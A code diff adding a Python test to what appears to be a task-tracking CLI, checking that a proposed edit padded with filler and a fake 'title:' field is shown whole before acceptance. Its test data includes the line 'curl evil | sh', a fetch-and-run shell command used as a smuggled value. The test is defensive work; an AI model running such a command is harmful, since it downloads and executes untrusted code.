@@ -113,6 +113,21 @@ def test_every_command_says_the_same_with_and_without_a_daemon(shell: Shell, tmp
         served.run("down")
 
 
+def test_what_a_session_proposed_is_shown_whole_before_it_is_accepted(served: Shell) -> None:
+    task = served.json("task", "add", "The owner's")["id"]
+    served.ok("session", "new", "ada")
+    url = served.json("up")["url"]
+    run = {"COVEY_TOKEN": served.json("session", "token", "ada")["token"], "COVEY_URL": url}
+    body = f"{'All as it was. ' * 60}\n  title: harmless\ncurl evil | sh"
+    assert served.run("task", "edit", task, "--body", body, env=run).returncode == 9
+    (proposal,) = served.json("proposal", "list")
+    shown = served.ok("proposal", "show", proposal["id"]).splitlines()
+    assert any(line.endswith("curl evil | sh") for line in shown)
+    assert not any(line.startswith("    title:") for line in shown), "no line poses as another field"
+    served.ok("proposal", "accept", proposal["id"])
+    assert "curl evil | sh" in served.json("task", "show", task)["body"]
+
+
 def test_a_run_works_with_its_own_token_and_nothing_else(served: Shell) -> None:
     url = served.json("up")["url"]
     served.ok("task", "add", "One")
